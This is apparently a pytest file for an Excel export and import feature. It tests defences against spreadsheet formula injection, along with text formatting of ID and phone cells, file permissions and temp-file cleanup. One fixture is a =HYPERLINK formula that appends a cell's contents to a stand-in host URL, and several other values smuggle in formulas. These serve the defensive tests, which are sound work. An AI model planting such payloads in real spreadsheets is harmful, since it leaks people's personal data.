"""Exports that stay right in the user's hands: ID-number, credit-code and phone cells as
text, AutoFilter and page set-up, the user's normal file permissions, no temp files left
holding ID numbers, and no formula ever written (a name typed as =HYPERLINK(…))."""

from __future__ import annotations

import os
import zipfile

import openpyxl
from excel_helpers import TODAY, code, ids
from sqlalchemy import select

from partydesk import excel
from partydesk.ledger import fields
from partydesk.ledger.models import Person, Unit

EVIL = '=HYPERLINK("http://example.invalid/?x="&B2,"点击")'


def _fill(ledger, orgs):
    n = ids(3)
    with ledger.session() as s:
        s.add(
            Person(
                name=EVIL,
                category="full",
                org_id=orgs["甲"],
                phone="13812345678",
                **fields.derive_from_id({"id_number": n[0]}),
            )
        )
        s.add(Person(name="+86甲", category="full", org_id=orgs["甲"], note="@备注"))
        s.add(Person(name="-乙", category="full", org_id=orgs["甲"], job="-岗位"))
        s.add(Unit(name="=1+1", credit_code=code(9)))
    return n


def _no_formula_in(path):
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_people_export_writes_text_not_formulas(ledger, orgs, tmp_path):
    n = _fill(ledger, orgs)
    out = tmp_path / "people.xlsx"
    excel.export_table(ledger, "people", out)
    _no_formula_in(out)
    ws = openpyxl.load_workbook(out).active
    header = [c.value for c in ws[1]]
    col = {h: i for i, h in enumerate(header)}
    row = [c for c in ws[2]]
    assert row[col["姓名"]].value == EVIL and row[col["姓名"]].data_type == "s"
    assert row[col["姓名"]].quotePrefix  # stays text when the cell is edited
    assert row[col["公民身份证号"]].value == n[0]
    for label in ("公民身份证号", "手机号"):
        assert row[col[label]].number_format == "@", label
    assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(header))}4"
    assert ws.page_setup.orientation == "landscape"
    # one page wide (fitToWidth 1 is the default, so not written), as many pages tall
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.page_setup.fitToWidth in (None, 1) and ws.page_setup.fitToHeight == 0
    assert ws.print_title_rows == "$1:$1"
    # it imports back as it was: the name is text, not a formula's result
    plan = excel.plan_import(ledger, "people", out, today=TODAY)
    assert plan.counts["unchanged"] == 3, [(r.status, r.changes) for r in plan.rows]


def test_tab_and_carriage_return_starts_are_text(tmp_path):
    from partydesk.excel.writing import write_table

    out = tmp_path / "t.xlsx"
    write_table(out, ["甲", "乙"], [["\t=1+1", "\r=2+2"], ["@SUM(A1)", "-3+4"]])
    _no_formula_in(out)
    ws = openpyxl.load_workbook(out).active
    assert [c.value for c in ws[3]] == ["@SUM(A1)", "-3+4"]
    assert all(c.data_type == "s" and c.quotePrefix for r in ws.iter_rows(min_row=2) for c in r)


def test_units_report_and_error_report_have_no_formulas(ledger, orgs, tmp_path):
    _fill(ledger, orgs)
    out = tmp_path / "units.xlsx"
    excel.export_table(ledger, "units", out)
    _no_formula_in(out)
    ws = openpyxl.load_workbook(out).active
    col = [c.value for c in ws[1]].index("统一社会信用代码")
    assert all(r[col].number_format == "@" for r in ws.iter_rows(min_row=2))
    rep = tmp_path / "coverage.xlsx"
    excel.write_report(ledger, "coverage", rep)
    _no_formula_in(rep)
    sheet = tmp_path / "in.xlsx"
    wb = openpyxl.Workbook()
    wb.active.append(["姓名", "人员类别", "手机号"])
    c = wb.active.cell(2, 1)
    c.value, c.data_type = EVIL, "s"
    wb.active.cell(2, 2, "群众")
    wb.save(sheet)
    plan = excel.plan_import(ledger, "people", sheet, today=TODAY)
    err = excel.write_error_report(plan, tmp_path / "err.xlsx")
    _no_formula_in(err)
    assert openpyxl.load_workbook(err).active["A2"].value == EVIL


def test_user_permissions_and_no_temp_files_left(ledger, orgs, tmp_path, monkeypatch):
    import tempfile

    _fill(ledger, orgs)
    private = tmp_path / "tmp"
    private.mkdir()
    monkeypatch.setenv("TMPDIR", str(private))
    monkeypatch.setattr(tempfile, "tempdir", None)
    old = os.umask(0o022)
    try:
        out = tmp_path / "people.xlsx"
        excel.export_table(ledger, "people", out)
        excel.write_template("people", tmp_path / "template.xlsx")
    finally:
        os.umask(old)
    assert oct(out.stat().st_mode & 0o777) == oct(0o644)
    assert oct((tmp_path / "template.xlsx").stat().st_mode & 0o777) == oct(0o644)
    assert [p for p in private.rglob("*") if not p.is_dir()] == []
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".partydesk-")]
    with ledger.Session() as s:
        assert s.scalar(select(Person.name).where(Person.name == EVIL)) == EVIL


def test_writer_temp_files_go_to_a_private_folder_removed_after(
    ledger, orgs, tmp_path, monkeypatch
):
    import stat

    import xlsxwriter

    _fill(ledger, orgs)
    seen = []
    real = xlsxwriter.Workbook.__init__

    def spy(self, filename=None, options=None):
        d = (options or {}).get("tmpdir")
        seen.append((d, stat.S_IMODE(os.stat(d).st_mode) if d else None))
        real(self, filename, options)

    monkeypatch.setattr(xlsxwriter.Workbook, "__init__", spy)
    excel.export_table(ledger, "people", tmp_path / "p.xlsx")
    ((d, mode),) = seen
    assert d and mode == 0o700 and not os.path.exists(d)
